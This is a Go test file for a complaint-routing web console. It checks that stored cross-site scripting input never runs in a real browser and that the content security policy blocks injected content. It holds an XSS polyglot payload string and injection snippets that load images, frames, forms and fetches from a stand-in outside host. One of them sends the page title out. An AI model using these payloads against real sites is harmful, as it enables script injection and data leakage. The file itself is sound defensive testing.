package console

import (
	"fmt"
	"strings"
	"testing"

	"jiesu/routing"
)

// stored is what somebody could write wherever the product takes free text, in the hope that a browser runs it.
const stored = `"'><script>window.pwned=1</script><img src=x onerror="window.pwned=1"><svg onload=window.pwned=1><a href="javascript:window.pwned=1" autofocus onfocus=window.pwned=1>x</a>{{.}}${1}`

// Every free text of a case is hostile, and every page that shows any of it is opened in a real browser: nothing runs, nothing becomes an element, and since nothing
// inline ever reaches the browser, the policy has nothing to complain of either.
func TestNothingThatIsWrittenRunsInABrowser(t *testing.T) {
	w := start(t)
	c := w.file(func(c *routing.Complaint) {
		c.Text, c.Note, c.ExternalID, c.System = complaint+stored, stored, "<b>1</b>", "x"
		c.Contact = routing.Contact{Enterprise: stored, Name: stored[:50], Phone: caller.Phone}
		c.Published = true
	})
	w.act("unit", c.Number, step(routing.ActionSign, ""), routing.Step{Action: routing.ActionProgress, Note: stored, Internal: true}, step(routing.ActionProgress, stored))
	w.act("office", c.Number, step(routing.ActionSupervise, stored))
	w.act("unit", c.Number, step(routing.ActionReply, stored))
	w.act("complainant", c.Number, routing.Step{Action: routing.ActionRate, Rating: &routing.Rating{Solved: routing.SolvedPartly, Satisfied: 3}, Note: stored}, step(routing.ActionSupplement, stored))
	w.addTask(routing.TaskCallBack, c, stored)
	w.attach(c, "image", "image/png", []byte(stored)) // says that it is a picture
	html := w.attach(c, "image", "text/html", []byte("<script>opener.pwned=1</script>"))
	w.post("unit", "/console/replies", "name", stored[:30], "body", stored).to("/console/replies")
	problem, err := w.store.ProblemOf(t.Context(), c.Number)
	must(t, err)
	w.post("operator", "/console/file/draft", "text", stored, "enterprise", stored, "phone", caller.Phone)

	server := w.serve()
	b := startBrowser(t, server.URL)
	look := func(p *screen, path string) {
		t.Helper()
		p.open(path)
		found := eval[string](p, `[
			window.pwned ? "a script ran" : "",
			...Array.from(document.querySelectorAll("main script, main svg:not([class]):not([role]), img[src=x], [onerror], [onload], [onfocus], a[href^='javascript']"), e => e.outerHTML.slice(0, 80)),
		].filter(Boolean).join("; ")`)
		if found != "" {
			t.Errorf("%s: %s", path, found)
		}
	}
	base := "/console/cases/" + c.Number
	for user, paths := range map[string][]string{
		"office":   {"/console", "/console?q=" + "window.pwned" + "&state=all", base, base + "/print", "/console/problems", "/console/problems/" + problem.Number, "/console/groups"},
		"unit":     {"/console", base, base + "/print", "/console/replies", "/console/problems/" + problem.Number},
		"operator": {"/console", base, "/console/tasks", "/console/file", "/console/calls"},
	} {
		p := b.tab(sizes[1])
		p.signIn(user)
		for _, path := range paths {
			look(p, path)
		}
		p.quiet()
	}
	p := b.tab(sizes[0])
	look(p, "/p/"+c.Token)
	if text := p.text(); !strings.Contains(text, "window.pwned") {
		t.Error("the complainant's words are not shown as they are")
	}
	p.quiet()
	for _, header := range []string{"attachment", "sandbox"} { // and a page that poses as a file is no page of ours
		a := w.get("office", casePath(c, "attachments", html))
		if got := fmt.Sprint(a.Header()); a.Code == 200 && !strings.Contains(got, header) {
			t.Errorf("the file is served without %s: %s", header, got)
		}
	}
}

// What the test above never lets through is let through here on purpose: each thing is put into a page as if a template had failed, and the browser stops it for
// the reason that the policy gives.
func TestThePolicyStopsWhatGetsPastATemplate(t *testing.T) {
	w := start(t)
	c := w.at(routing.StateSigned)
	b := startBrowser(t, w.serve().URL)
	p := b.tab(sizes[1])
	p.signIn("office")
	for _, path := range []string{casePath(c), "/p/" + c.Token} {
		for violated, html := range map[string]string{
			"script-src-elem": `const s = document.createElement("script"); s.textContent = "window.pwned = 1"; document.body.append(s)`,
			"script-src-attr": `document.body.insertAdjacentHTML("beforeend", '<img src="/console/static/none" onerror="window.pwned = 1">')`,
			"img-src":         `document.body.insertAdjacentHTML("beforeend", '<img src="https://elsewhere.example/?' + document.title + '">')`,
			"style-src-attr":  `document.body.insertAdjacentHTML("beforeend", '<p style="background: url(https://elsewhere.example/)">x</p>')`,
			"connect-src":     `fetch("https://elsewhere.example/").catch(() => {})`,
			"frame-src":       `document.body.insertAdjacentHTML("beforeend", '<iframe src="https://elsewhere.example/"></iframe>')`,
			"object-src":      `document.body.insertAdjacentHTML("beforeend", '<object data="https://elsewhere.example/x"></object>')`,
			"base-uri":        `document.head.insertAdjacentHTML("beforeend", '<base href="https://elsewhere.example/">')`,
			"form-action":     `document.body.insertAdjacentHTML("beforeend", '<form id="away" method="post" action="https://elsewhere.example/"></form>'); document.getElementById("away").submit()`,
		} {
			p.open(path)
			eval[bool](p, `window.stopped = [], document.addEventListener("securitypolicyviolation", e => window.stopped.push(e.effectiveDirective)), true`)
			eval[bool](p, `(() => { `+html+`; return true })()`)
			p.await(fmt.Sprintf(`window.stopped.some(d => d === %q)`, violated))
			if eval[bool](p, `!!window.pwned`) {
				t.Errorf("%s: %s: a script ran", path, violated)
			}
		}
	}
}
